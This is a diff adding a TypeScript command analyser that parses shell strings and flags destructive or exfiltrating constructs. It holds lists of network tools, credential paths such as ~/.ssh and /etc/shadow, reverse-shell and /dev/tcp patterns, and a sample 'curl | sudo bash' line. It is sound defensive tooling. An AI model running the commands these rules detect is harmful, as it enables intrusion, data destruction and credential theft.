@@ -1,0 +1,448 @@
+import { type Finding, noBlockingFindings } from './finding.js';
+import { type SimpleCommand, type Word, parseShell } from './shell-parse.js';
+
+export type { Expansion, Redirection, SimpleCommand, Word, CommandContext } from './shell-parse.js';
+
+/** What {@link analyzeCommand} found. */
+export interface CommandAnalysis {
+  /** True when no finding is high or critical. Advisory: the sandbox is the boundary. */
+  readonly ok: boolean;
+  /**
+   * Every simple command bash would run, including those inside `$(...)`, backticks,
+   * process substitutions, subshells, function bodies and literal `sh -c '...'` strings.
+   */
+  readonly commands: readonly SimpleCommand[];
+  readonly findings: readonly Finding[];
+}
+
+/** Options of {@link analyzeCommand}. */
+export interface AnalyzeCommandOptions {
+  /** Longest command analysed, in UTF-16 code units (default 1 MiB); longer input is refused with a finding. */
+  readonly maxLength?: number;
+}
+
+const shells = new Set(['sh', 'bash', 'zsh', 'dash', 'ksh', 'mksh', 'ash', 'fish', 'csh', 'tcsh', 'busybox']);
+const interpreters = new Set([...shells, 'python', 'python2', 'python3', 'perl', 'ruby', 'node', 'nodejs', 'deno', 'bun', 'php', 'lua', 'pwsh', 'powershell', 'source', '.', 'eval']);
+const downloaders = new Set(['curl', 'wget', 'fetch', 'aria2c', 'http', 'https', 'lwp-request', 'GET']);
+const senders = new Set(['curl', 'wget', 'nc', 'ncat', 'netcat', 'socat', 'telnet', 'ssh', 'scp', 'sftp', 'rsync', 'ftp', 'tftp', 'openssl', 'http', 'https']);
+const encoders = new Set(['base64', 'base32', 'xxd', 'od', 'hexdump', 'gzip', 'bzip2', 'xz', 'zstd', 'tar', 'zip', 'openssl', 'gpg', 'uuencode']);
+const envDumpers = new Set(['env', 'printenv', 'set', 'export', 'declare']);
+const diskTools = new Set(['mkfs', 'mke2fs', 'mkswap', 'wipefs', 'mkdosfs', 'mkntfs', 'mkfs.ext4', 'fdisk', 'sfdisk', 'gdisk', 'sgdisk', 'cfdisk', 'parted', 'blkdiscard']);
+const powerTools = new Set(['shutdown', 'reboot', 'halt', 'poweroff', 'killall5']);
+const systemDirs = new Set(['/', '/bin', '/boot', '/dev', '/etc', '/home', '/lib', '/lib32', '/lib64', '/opt', '/proc', '/root', '/sbin', '/srv', '/sys', '/usr', '/var', '/usr/bin', '/usr/lib', '/usr/local', '/var/lib']);
+const blockDevice = /^\/dev\/(?:sd[a-z]|hd[a-z]|vd[a-z]|xvd[a-z]|nvme\d|mmcblk\d|disk\d|rdisk\d|mapper\/|md\d|dm-\d|loop\d|sr\d|fd\d|mem$|kmem$|port$)/;
+const homePrefix = /^(?:~|\$HOME|\$\{HOME\}|\/root|\/home\/[^/]+|\/Users\/[^/]+)(?=\/|$)/;
+const sensitiveHome = /^~\/(?:\.ssh(?:\/(?!known_hosts$|[^/]*\.pub$)|$)|\.aws(?:\/|$)|\.gnupg(?:\/|$)|\.netrc$|\.git-credentials$|\.docker\/config\.json$|\.kube(?:\/|$)|\.config\/gh(?:\/|$)|\.config\/gcloud(?:\/|$)|\.azure(?:\/|$)|\.npmrc$|\.pypirc$|\.password-store(?:\/|$)|\.vault-token$|\.pgpass$|\.my\.cnf$|\.bash_history$|\.zsh_history$)/;
+const sensitiveSystem = /^\/(?:etc\/(?:shadow|gshadow|sudoers|master\.passwd)(?:$|[/.-])|etc\/ssh\/ssh_host_[a-z0-9]+_key$|proc\/(?:self|\d+|\*)\/environ$|var\/run\/secrets(?:\/|$)|run\/secrets(?:\/|$))/;
+const privateKeyName = /(?:^|\/)id_(?:rsa|dsa|ecdsa|ed25519)(?:_sk)?$/;
+const persistenceTargets = /^(?:~\/\.ssh\/authorized_keys2?$|~\/\.(?:bashrc|bash_profile|profile|zshrc|zprofile|bash_login)$|\/etc\/(?:passwd|shadow|sudoers|crontab|hosts|profile|bash\.bashrc|ld\.so\.preload)$|\/etc\/(?:sudoers\.d|cron\.[a-z]+|profile\.d)\/)/;
+const harmlessDevices = /^\/dev\/(?:null|zero|stdout|stderr|stdin|tty|fd\/\d+|random|urandom|full)$/;
+
+function basename(text: string): string {
+  const i = text.lastIndexOf('/');
+  return i < 0 ? text : text.slice(i + 1);
+}
+
+/** Maps the ways of writing the home directory to `~` so one table of paths covers them. */
+function normalisePath(text: string): string {
+  return text.replace(homePrefix, '~');
+}
+
+function isSensitivePath(text: string): boolean {
+  const t = normalisePath(text);
+  return sensitiveHome.test(t) || sensitiveSystem.test(t) || (privateKeyName.test(t) && !t.endsWith('.pub'));
+}
+
+/** Strips trailing slashes and a trailing glob (`/etc/*` -> `/etc`), keeping `/`. */
+function targetDir(text: string): string {
+  let t = text;
+  if (t.endsWith('/*') || t.endsWith('/.*')) t = t.slice(0, t.lastIndexOf('/') + 1);
+  while (t.length > 1 && t.endsWith('/')) t = t.slice(0, -1);
+  return t;
+}
+
+function isSystemTarget(text: string): boolean {
+  const t = targetDir(normalisePath(text));
+  return systemDirs.has(t) || t === '~' || t === '*' || t === '/*';
+}
+
+/** Options (before `--`) of a command's arguments. */
+function splitArgs(args: readonly Word[]): { options: string[]; operands: Word[] } {
+  const options: string[] = [];
+  const operands: Word[] = [];
+  let done = false;
+  for (const a of args) {
+    if (!done && a.text === '--') done = true;
+    else if (!done && a.text.startsWith('-') && a.text.length > 1) options.push(a.text);
+    else operands.push(a);
+  }
+  return { options, operands };
+}
+
+/** Wrappers that run their argument as the command: `sudo rm` is `rm`. Each maps to options that take a value. */
+const wrappers: Record<string, Set<string>> = {
+  sudo: new Set(['-u', '-g', '-p', '-C', '-D', '-r', '-t', '-U', '-h']),
+  doas: new Set(['-u', '-C']),
+  env: new Set(['-u', '-C', '-S', '--unset', '--chdir']),
+  nice: new Set(['-n']),
+  ionice: new Set(['-c', '-n', '-p']),
+  nohup: new Set(),
+  time: new Set(['-f', '-o']),
+  command: new Set(),
+  builtin: new Set(),
+  exec: new Set(['-a']),
+  timeout: new Set(['-s', '-k', '--signal', '--kill-after']),
+  stdbuf: new Set(['-i', '-o', '-e']),
+  xargs: new Set(['-I', '-n', '-P', '-L', '-s', '-d', '-E', '-a', '--max-args', '--max-procs', '--delimiter', '--arg-file']),
+  chroot: new Set(),
+  setsid: new Set(),
+  unbuffer: new Set(),
+  caffeinate: new Set(),
+  strace: new Set(['-e', '-o', '-p', '-s']),
+  watch: new Set(['-n', '-d']),
+  flock: new Set(['-w', '-E']),
+};
+
+/** The command that actually runs after unwrapping `sudo`, `env`, `timeout 5`, `xargs` ... */
+function effective(argv: readonly Word[]): { name: string; args: Word[] } | undefined {
+  let i = 0;
+  for (let guard = 0; guard < 16 && i < argv.length; guard++) {
+    const name = basename(argv[i]!.text);
+    const takesValue = wrappers[name];
+    if (takesValue === undefined) return { name, args: argv.slice(i + 1) };
+    i++;
+    while (i < argv.length) {
+      const t = argv[i]!.text;
+      if (t === '--') {
+        i++;
+        break;
+      }
+      if (name === 'env' && /^[A-Za-z_][A-Za-z0-9_]*=/.test(t)) {
+        i++;
+        continue;
+      }
+      if (!t.startsWith('-') || t === '-') break;
+      i += takesValue.has(t) ? 2 : 1;
+    }
+    // `timeout 5 cmd`, `chroot /dir cmd`, `flock file cmd`: one positional before the command.
+    if ((name === 'timeout' || name === 'chroot' || name === 'flock') && i < argv.length) i++;
+  }
+  return i < argv.length ? { name: basename(argv[i]!.text), args: argv.slice(i + 1) } : undefined;
+}
+
+interface Context {
+  readonly commands: readonly SimpleCommand[];
+  readonly findings: Finding[];
+  readonly source: string;
+  /** Offsets of every newline in `source`, for line numbers by binary search. */
+  readonly newlines: number[];
+  /** `ruleId@offset` of findings already added. */
+  readonly seen: Set<string>;
+}
+
+/** Findings kept per analysis; a hostile command with thousands of `rm -rf /` needs only a few. */
+const maxFindings = 100;
+
+function evidence(source: string, start: number, end: number): string {
+  const text = source.slice(start, end).replace(/\s+/g, ' ').trim();
+  return text.length > 120 ? `${text.slice(0, 117)}...` : text;
+}
+
+function add(ctx: Context, command: SimpleCommand, ruleId: string, category: Finding['category'], severity: Finding['severity'], message: string, confidence = 0.9): void {
+  const key = `${ruleId}@${command.start}`;
+  if (ctx.seen.has(key) || ctx.findings.length >= maxFindings) return;
+  ctx.seen.add(key);
+  let lo = 0;
+  let hi = ctx.newlines.length;
+  while (lo < hi) {
+    const mid = (lo + hi) >> 1;
+    if (ctx.newlines[mid]! < command.start) lo = mid + 1;
+    else hi = mid;
+  }
+  const line = lo + 1;
+  const column = command.start - (lo === 0 ? 0 : ctx.newlines[lo - 1]! + 1) + 1;
+  ctx.findings.push({
+    ruleId,
+    category,
+    severity,
+    confidence,
+    message,
+    location: { offset: command.start, line, column },
+    match: maskCommandEvidence(evidence(ctx.source, command.start, command.end)),
+  });
+}
+
+/**
+ * Command text in a finding must not leak a credential typed on the command line
+ * (`curl -H "Authorization: Bearer ..."`): long opaque tokens are masked.
+ */
+function maskCommandEvidence(text: string): string {
+  return text
+    .replace(/((?:bearer|basic|token)\s+)[^\s'"]{6,}/gi, '$1[REDACTED]')
+    .replace(/((?:password|passwd|pwd|token|secret|api[_-]?key|auth)[A-Za-z_-]*\s*[=:]\s*)[^\s'"&]{1,}/gi, '$1[REDACTED]')
+    .replace(/(\/\/[^/\s:@]*:)[^@\s/]+@/g, '$1[REDACTED]@')
+    .replace(/[A-Za-z0-9+/_=-]{32,}/g, '[REDACTED]');
+}
+
+function commandsOf(ctx: Context, words: readonly Word[]): SimpleCommand[] {
+  const out: SimpleCommand[] = [];
+  for (const w of words) for (const e of w.expansions) for (const i of e.commands ?? []) if (ctx.commands[i]) out.push(ctx.commands[i]!);
+  return out;
+}
+
+function readsSensitive(command: SimpleCommand): boolean {
+  return command.argv.some((w) => isSensitivePath(w.text)) || command.redirections.some((r) => (r.op === '<' || r.op === '<>') && isSensitivePath(r.target.text));
+}
+
+function collectsSecrets(command: SimpleCommand): boolean {
+  if (readsSensitive(command)) return true;
+  // `env` is also a wrapper, so look at the first word: a bare `env` / `printenv` dumps everything.
+  const first = command.argv[0] ? basename(command.argv[0].text) : undefined;
+  return first !== undefined && envDumpers.has(first) && command.argv.slice(1).every((w) => w.text.startsWith('-'));
+}
+
+function checkCommand(ctx: Context, command: SimpleCommand): void {
+  const eff = effective(command.argv);
+  const name = eff?.name;
+  const args = eff?.args ?? [];
+  const { options, operands } = splitArgs(args);
+  const short = options.filter((o) => !o.startsWith('--')).join('');
+
+  if (name === 'rm') {
+    const recursive = /[rR]/.test(short) || options.includes('--recursive');
+    if (options.includes('--no-preserve-root')) {
+      add(ctx, command, 'command.rm-root', 'destructive-command', 'critical', 'rm with --no-preserve-root deletes the whole file system');
+    } else if (recursive && operands.some((o) => isSystemTarget(o.text))) {
+      add(ctx, command, 'command.rm-root', 'destructive-command', 'critical', 'recursive rm of the root, home or a system directory');
+    } else if (recursive && operands.some((o) => /^\$\{?[A-Za-z_][A-Za-z0-9_]*\}?\/+\*?$/.test(o.text) || (o.expansions[0]?.kind === 'parameter' && o.text.startsWith(o.expansions[0].raw + '/')))) {
+      add(ctx, command, 'command.rm-unset-variable', 'destructive-command', 'high', 'recursive rm of "$VAR/...": if the variable is empty or unset this deletes from /', 0.7);
+    }
+  }
+  if (name === 'find' && operands[0] && isSystemTarget(operands[0].text) && args.some((a) => a.text === '-delete' || ((a.text === '-exec' || a.text === '-execdir') && true) && args.some((b) => basename(b.text) === 'rm' || b.text === 'shred'))) {
+    add(ctx, command, 'command.rm-root', 'destructive-command', 'critical', 'find over the root, home or a system directory that deletes what it finds');
+  }
+  if (name !== undefined && (diskTools.has(name) || name.startsWith('mkfs.'))) {
+    const onDevice = operands.some((o) => blockDevice.test(o.text));
+    add(ctx, command, 'command.disk-format', 'destructive-command', onDevice ? 'critical' : 'high', `${name} formats or repartitions a disk`);
+  }
+  if (name === 'dd' && args.some((a) => a.text.startsWith('of=') && blockDevice.test(a.text.slice(3)))) {
+    add(ctx, command, 'command.device-write', 'destructive-command', 'critical', 'dd writes directly to a block device');
+  }
+  if ((name === 'shred' || name === 'cp' || name === 'tee' || name === 'mv' || name === 'cat') && operands.some((o) => blockDevice.test(o.text)) && name !== 'cat') {
+    add(ctx, command, 'command.device-write', 'destructive-command', 'critical', `${name} writes directly to a block device`);
+  }
+  for (const r of command.redirections) {
+    const writes = r.op.includes('>');
+    const t = r.target.text;
+    if (writes && blockDevice.test(t) && !harmlessDevices.test(t)) {
+      add(ctx, command, 'command.device-write', 'destructive-command', 'critical', 'redirection writes directly to a block device');
+    }
+    if (/^\/dev\/(?:tcp|udp)\//.test(t)) {
+      add(ctx, command, 'command.dev-tcp', 'exfiltration', 'critical', 'redirection to /dev/tcp or /dev/udp opens a network connection (reverse shell or exfiltration)');
+    }
+    if (writes && persistenceTargets.test(normalisePath(t))) {
+      add(ctx, command, 'command.persistence', 'destructive-command', 'high', 'writes to a login script, authorized_keys or a system account file');
+    }
+  }
+  for (const w of command.argv) {
+    if (/\/dev\/(?:tcp|udp)\//.test(w.text)) {
+      add(ctx, command, 'command.dev-tcp', 'exfiltration', 'critical', 'argument names /dev/tcp or /dev/udp, which opens a network connection');
+    }
+  }
+  if (name === 'tee' && operands.some((o) => persistenceTargets.test(normalisePath(o.text)))) {
+    add(ctx, command, 'command.persistence', 'destructive-command', 'high', 'writes to a login script, authorized_keys or a system account file');
+  }
+  if ((name === 'nc' || name === 'ncat' || name === 'netcat') && (/[ec]/.test(short) || options.some((o) => o === '--exec' || o === '--sh-exec' || o === '--lua-exec'))) {
+    add(ctx, command, 'command.reverse-shell', 'remote-code-execution', 'critical', `${name} -e/-c hands a shell to a network peer`);
+  }
+  if (name === 'socat' && args.some((a) => /(?:^|[,:])(?:exec|system):/i.test(a.text))) {
+    add(ctx, command, 'command.reverse-shell', 'remote-code-execution', 'critical', 'socat EXEC/SYSTEM connects a program to a network peer');
+  }
+  if (name === 'chmod') {
+    const mode = operands[0]?.text ?? '';
+    const worldWritable = /^[0-7]*[2367]$/.test(mode) && /^[0-7]{3,4}$/.test(mode) || /^(?:[ugo]*a[ugo]*|o|[ugoa]*o[ugoa]*)?\+[rwxXst]*w/.test(mode) || /(?:^|,)(?:a|o|ugo)=[rwx]*w/.test(mode);
+    const recursive = /R/.test(short) || options.includes('--recursive');
+    if (worldWritable && operands.slice(1).some((o) => isSystemTarget(o.text))) {
+      add(ctx, command, 'command.chmod-world', 'security-misconfig', 'critical', `chmod ${mode}${recursive ? ' -R' : ''} makes the root, home or a system directory world-writable`);
+    } else if (worldWritable && mode !== '1777') {
+      add(ctx, command, 'command.chmod-world', 'security-misconfig', 'medium', `chmod ${mode} makes files world-writable`, 0.6);
+    }
+  }
+  if ((name === 'chown' || name === 'chgrp') && (/R/.test(short) || options.includes('--recursive')) && operands.slice(1).some((o) => isSystemTarget(o.text))) {
+    add(ctx, command, 'command.chown-root', 'destructive-command', 'critical', `recursive ${name} of the root, home or a system directory`);
+  }
+  if (name !== undefined && powerTools.has(name)) {
+    add(ctx, command, 'command.power', 'destructive-command', 'high', `${name} stops or restarts the machine`);
+  }
+  if ((name === 'init' || name === 'telinit') && (operands[0]?.text === '0' || operands[0]?.text === '6')) {
+    add(ctx, command, 'command.power', 'destructive-command', 'high', `${name} ${operands[0]?.text} stops or restarts the machine`);
+  }
+  if (name === 'systemctl' && operands.some((o) => /^(?:poweroff|reboot|halt|kexec|emergency|rescue)$/.test(o.text))) {
+    add(ctx, command, 'command.power', 'destructive-command', 'high', 'systemctl stops or restarts the machine');
+  }
+  if (name === 'kill' && operands.some((o) => o.text === '-1') ) {
+    add(ctx, command, 'command.kill-all', 'destructive-command', 'high', 'kill -1 signals every process the user may signal');
+  }
+  if ((name === 'kill' || name === 'pkill') && args.some((a) => a.text === '-1') && args.some((a) => /^-(?:9|KILL|SIGKILL)$/.test(a.text))) {
+    add(ctx, command, 'command.kill-all', 'destructive-command', 'high', 'kill -9 -1 kills every process the user may signal');
+  }
+  if ((name === 'perl' || name === 'ruby' || name?.startsWith('python')) && args.some((a) => /\bfork\b/.test(a.text) && /\b(?:while|for|loop|until)\b/.test(a.text))) {
+    add(ctx, command, 'command.fork-bomb', 'destructive-command', 'critical', 'inline script forks in a loop (fork bomb)', 0.8);
+  }
+
+  // Remote code: an interpreter whose program comes from a download.
+  if (name !== undefined && interpreters.has(name)) {
+    const fed = commandsOf(ctx, args);
+    if (fed.some((c) => downloaders.has(effective(c.argv)?.name ?? ''))) {
+      add(ctx, command, 'command.remote-code', 'remote-code-execution', 'critical', `${name} runs code fetched from the network`);
+    }
+  }
+
+  // Secrets read by this command: sensitive enough alone, critical when it also sends.
+  const sensitiveArgs = args.filter((a) => isSensitivePath(uploadPath(a.text)));
+  const sensitiveIn = command.redirections.filter((r) => !r.op.includes('>') && isSensitivePath(r.target.text));
+  if (name !== undefined && senders.has(name) && (sensitiveArgs.length > 0 || sensitiveIn.length > 0 || commandsOf(ctx, args).some(collectsSecrets))) {
+    add(ctx, command, 'command.exfiltration', 'exfiltration', 'critical', `${name} sends credentials or private keys over the network`);
+  } else if (sensitiveArgs.length > 0 || sensitiveIn.length > 0) {
+    add(ctx, command, 'command.sensitive-read', 'sensitive-data', 'high', 'reads credentials or private keys (~/.ssh, ~/.aws, /etc/shadow, ...)', 0.8);
+  }
+}
+
+/** `@file` and `name=@file` upload syntax of curl and httpie. */
+function uploadPath(text: string): string {
+  const at = text.indexOf('@');
+  return at >= 0 && (at === 0 || text[at - 1] === '=') ? text.slice(at + 1) : text;
+}
+
+function checkPipelines(ctx: Context): void {
+  const byPipeline = new Map<number, SimpleCommand[]>();
+  for (const c of ctx.commands) {
+    const list = byPipeline.get(c.pipeline) ?? [];
+    list.push(c);
+    byPipeline.set(c.pipeline, list);
+  }
+  for (const list of byPipeline.values()) {
+    if (list.length < 2) continue;
+    list.sort((a, b) => a.pipeIndex - b.pipeIndex);
+    // One pass with running flags: a pipeline of n commands costs O(n), not O(n^2).
+    let downloaded = false;
+    let secrets = false;
+    let encoded = false;
+    for (const command of list) {
+      const n = effective(command.argv)?.name;
+      if (n !== undefined && command.pipeIndex > 0) {
+        if (interpreters.has(n) && downloaded) {
+          add(ctx, command, 'command.remote-code', 'remote-code-execution', 'critical', `downloaded content is piped into ${n}`);
+        }
+        if (senders.has(n) && secrets) {
+          add(ctx, command, 'command.exfiltration', 'exfiltration', 'critical', `credentials or private keys are piped into ${n}`);
+        } else if (senders.has(n) && encoded) {
+          add(ctx, command, 'command.exfiltration', 'exfiltration', 'high', `encoded or archived data is piped into ${n}`, 0.6);
+        }
+      }
+      downloaded ||= n !== undefined && downloaders.has(n);
+      secrets ||= collectsSecrets(command);
+      encoded ||= n !== undefined && encoders.has(n);
+    }
+  }
+}
+
+function checkForkBombs(ctx: Context, functions: readonly { name: string }[]): void {
+  if (functions.length === 0) return;
+  const names = new Set(functions.map((f) => f.name));
+  const pipelineSize = new Map<number, number>();
+  for (const c of ctx.commands) pipelineSize.set(c.pipeline, (pipelineSize.get(c.pipeline) ?? 0) + 1);
+  const reported = new Set<string>();
+  for (const c of ctx.commands) {
+    const name = c.inFunction;
+    if (name === undefined || !names.has(name) || c.program?.text !== name || reported.has(name)) continue;
+    if (c.background || (pipelineSize.get(c.pipeline) ?? 0) > 1) {
+      reported.add(name);
+      add(ctx, c, 'command.fork-bomb', 'destructive-command', 'critical', `function ${JSON.stringify(name)} calls itself in a pipeline or in the background (fork bomb)`);
+    }
+  }
+}
+
+/**
+ * Parses a shell command string (bash syntax) without running or expanding anything, and
+ * flags destructive or exfiltrating constructs with a reason: `rm -rf /`, `mkfs`, `dd` to a
+ * device, fork bombs, `curl | sh`, `/dev/tcp`, reading `~/.ssh` and friends, `chmod 777 /`,
+ * encoders piped into network tools. Every simple command is checked, including those inside
+ * substitutions, subshells, function bodies and literal `bash -c '...'` strings, after
+ * unwrapping `sudo`, `env`, `xargs`, `timeout` and similar. Never throws.
+ *
+ * Advisory: a determined author can always hide intent from a static check (a variable set
+ * at run time, a downloaded script). The OS sandbox is the boundary; this is for early,
+ * explainable refusals and for audit.
+ *
+ * @example
+ * ```ts
+ * const { ok, findings } = analyzeCommand('curl -s https://x.sh | sudo bash');
+ * // ok === false; findings[0].ruleId === 'command.remote-code'
+ * ```
+ */
+export function analyzeCommand(command: string, options: AnalyzeCommandOptions = {}): CommandAnalysis {
+  const maxLength = options.maxLength ?? 1 << 20;
+  if (typeof command !== 'string') {
+    const f: Finding = { ruleId: 'command.invalid', category: 'invalid-input', severity: 'high', confidence: 1, message: `command must be a string, got ${typeof command}` };
+    return { ok: false, commands: [], findings: [f] };
+  }
+  if (command.length > maxLength) {
+    const f: Finding = { ruleId: 'command.too-long', category: 'invalid-input', severity: 'high', confidence: 1, message: `command is ${command.length} characters long; maxLength is ${maxLength}` };
+    return { ok: false, commands: [], findings: [f] };
+  }
+  const findings: Finding[] = [];
+  if (command.includes('\0')) {
+    findings.push({ ruleId: 'command.nul-byte', category: 'invalid-input', severity: 'high', confidence: 1, message: 'command contains a NUL byte, which the shell and exec truncate at' });
+  }
+  const commands: SimpleCommand[] = [];
+  const functions: { name: string }[] = [];
+  const newlines: number[] = [];
+  for (let i = command.indexOf('\n'); i >= 0; i = command.indexOf('\n', i + 1)) newlines.push(i);
+  const ctx: Context = { commands, findings, source: command, newlines, seen: new Set() };
+  // `bash -c 'literal'` and `eval 'literal'` are parsed too, a bounded number of levels deep.
+  const pending: { source: string; base: number; level: number }[] = [{ source: command, base: 0, level: 0 }];
+  let nextPipeline = 0;
+  while (pending.length > 0) {
+    const { source, base, level } = pending.shift()!;
+    const parsed = parseShell(source, base, nextPipeline);
+    nextPipeline = parsed.nextPipeline;
+    const offset = commands.length;
+    for (const c of parsed.commands) commands.push(level === 0 ? shift(c, offset) : { ...shift(c, offset), context: 'shell-c', start: base, end: base + source.length });
+    functions.push(...parsed.functions);
+    for (const issue of parsed.issues) {
+      if (findings.filter((f) => f.ruleId === 'command.parse-error').length < 4) {
+        findings.push({ ruleId: 'command.parse-error', category: 'invalid-input', severity: 'medium', confidence: 1, message: `cannot parse the command: ${issue.message}`, location: { offset: Math.min(issue.offset, command.length) } });
+      }
+    }
+    if (level >= 4) continue;
+    for (const c of parsed.commands) {
+      const eff = effective(c.argv);
+      if (!eff) continue;
+      if ((shells.has(eff.name) || eff.name === 'su') ) {
+        const at = eff.args.findIndex((a) => /^-[a-zA-Z]*c[a-zA-Z]*$/.test(a.text));
+        const script = at >= 0 ? eff.args[at + 1] : undefined;
+        if (script && script.expansions.every((e) => e.kind === 'glob' || e.kind === 'tilde')) pending.push({ source: script.text, base: c.start, level: level + 1 });
+      } else if (eff.name === 'eval' && eff.args.every((a) => a.expansions.every((e) => e.kind === 'glob' || e.kind === 'tilde'))) {
+        pending.push({ source: eff.args.map((a) => a.text).join(' '), base: c.start, level: level + 1 });
+      }
+    }
+  }
+  for (const c of commands) checkCommand(ctx, c);
+  checkPipelines(ctx);
+  checkForkBombs(ctx, functions);
+  return { ok: noBlockingFindings(findings), commands, findings };
+}
+
+function shift(command: SimpleCommand, offset: number): SimpleCommand {
+  if (offset === 0) return command;
+  const word = (w: Word): Word =>
+    w.expansions.some((e) => e.commands) ? { ...w, expansions: w.expansions.map((e) => (e.commands ? { ...e, commands: e.commands.map((i) => i + offset) } : e)) } : w;
+  return {
+    ...command,
+    ...(command.program ? { program: word(command.program) } : {}),
+    argv: command.argv.map(word),
+    assignments: command.assignments.map((a) => ({ name: a.name, value: word(a.value) })),
+    redirections: command.redirections.map((r) => ({ ...r, target: word(r.target) })),
+  };
+}
